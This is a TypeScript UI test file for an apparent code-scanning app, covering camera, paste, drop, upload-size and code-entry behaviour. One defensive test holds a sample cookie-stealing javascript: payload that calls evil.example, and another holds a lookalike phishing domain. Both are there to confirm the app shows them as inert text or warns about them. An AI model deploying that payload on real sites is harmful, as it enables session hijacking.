import { fireEvent, screen } from "@testing-library/svelte";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";

import { fixture, open } from "./window";

const user = userEvent.setup();

describe("scanning", () => {
  it("opens the camera when the view appears, and keeps it off when it was switched off", async () => {
    const window = await open("scan-off");
    expect(window.acts).toEqual([{ command: "start_camera" }]);
    window.push(fixture("scan"));
    await user.click(await screen.findByTestId("stop-camera"));
    window.push(fixture("scan-off"));
    await screen.findByTestId("start-camera");
    expect(window.acts).toEqual([{ command: "start_camera" }, { command: "stop_camera" }]);
  });

  it("hands over the bytes of a chosen picture", async () => {
    const window = await open("scan");
    await user.upload(screen.getByTestId("scan-image"), new File(["PNG"], "code.png", { type: "image/png" }));
    await expect.poll(() => window.pictures.length).toBe(1);
    expect(new TextDecoder().decode(window.pictures[0])).toBe("PNG");
  });

  it("hands over a pasted picture, and a pasted link as text", async () => {
    const window = await open("scan");
    await fireEvent.paste(document.body, { clipboardData: { files: [new File(["GIF"], "a.gif")], getData: () => "" } });
    await expect.poll(() => window.pictures.length).toBe(1);
    await fireEvent.paste(document.body, { clipboardData: { files: [], getData: () => " https://a.example/Q/X " } });
    expect(window.acts).toEqual([{ command: "scan_text", text: "https://a.example/Q/X" }]);
  });

  it("asks the program for the clipboard when the webview shows nothing of it", async () => {
    const window = await open("scan");
    await fireEvent.paste(document.body, { clipboardData: { files: [], getData: () => "" } });
    expect(window.pastes).toBe(1);
  });

  it("leaves a paste into a field to the field", async () => {
    const window = await open("add-account");
    await fireEvent.paste(screen.getByTestId("link-input"), { clipboardData: { files: [], getData: () => "https://a.example/E/X" } });
    expect(window.acts).toEqual([]);
  });

  it("hands over no more of a huge file than the program needs to refuse it", async () => {
    const window = await open("scan");
    const file = new File(["x"], "huge.png");
    Object.defineProperty(file, "size", { value: 5 * 1024 ** 3 });
    const cut = vi.spyOn(file, "slice");
    await fireEvent.paste(document.body, { clipboardData: { files: [file], getData: () => "" } });
    await expect.poll(() => window.pictures.length).toBe(1);
    expect(cut).toHaveBeenCalledWith(0, 64 * 1024 * 1024 + 1);
  });

  it("takes a dropped link as text, leaves files to the program, and never navigates", async () => {
    const window = await open("scan");
    const dataTransfer = { files: [new File(["PNG"], "code.png")], getData: () => "" };
    for (const type of ["dragEnter", "dragOver", "drop"] as const) {
      expect(await fireEvent[type](document.body, { dataTransfer })).toBe(false);
    }
    await fireEvent.drop(document.body, { dataTransfer: { files: [], getData: () => " https://a.example/Q/X " } });
    expect(window.pictures).toEqual([]);
    expect(window.acts).toEqual([{ command: "scan_text", text: "https://a.example/Q/X" }]);
  });

  it("says that a pasted file could not be opened", async () => {
    const window = await open("scan");
    const file = new File(["x"], "gone.png");
    file.arrayBuffer = () => Promise.reject(new Error("NotFoundError"));
    await fireEvent.paste(document.body, { clipboardData: { files: [file], getData: () => "" } });
    await expect.poll(() => window.acts).toEqual([{ command: "picture_failed", details: "open picture: Error: NotFoundError" }]);
  });

  it("asks for the screen and leads to the code field", async () => {
    const window = await open("scan");
    await user.click(screen.getByTestId("scan-screen"));
    await user.click(screen.getByTestId("type-code"));
    expect(window.acts).toEqual([{ command: "scan_screen" }, { command: "go", to: "type_code" }]);
  });

  it("shapes a typed code and sends it for the chosen account", async () => {
    const window = await open("type-code");
    await user.type(screen.getByTestId("code-input"), "bcdf ghjk");
    expect(screen.getByTestId("code-input")).toHaveValue("BCDF-GHJK");
    await user.selectOptions(screen.getByTestId("account-picker"), "a2");
    await user.click(screen.getByTestId("submit-code"));
    expect(window.acts).toEqual([{ command: "submit_user_code", account: "a2", code: "BCDF-GHJK" }]);
  });
});

describe("a foreign text", () => {
  it("is text: no link, nothing sent, copied only on request", async () => {
    const window = await open("foreign-text");
    expect(document.querySelector("main a, main iframe, main img")).toBeNull();
    expect(screen.getByTestId("foreign-text")).toHaveTextContent("javascript:fetch(");
    expect(window.copied).toEqual([]);
    await user.click(screen.getByTestId("copy-text"));
    expect(window.copied).toEqual(["javascript:fetch('https://evil.example/?'+document.cookie)"]);
    expect(window.acts).toEqual([]);
  });

  it("warns of a lookalike", async () => {
    await open("foreign-lookalike");
    expect(screen.getByRole("alert")).toHaveTextContent("https://login.examp1e.com");
  });
});
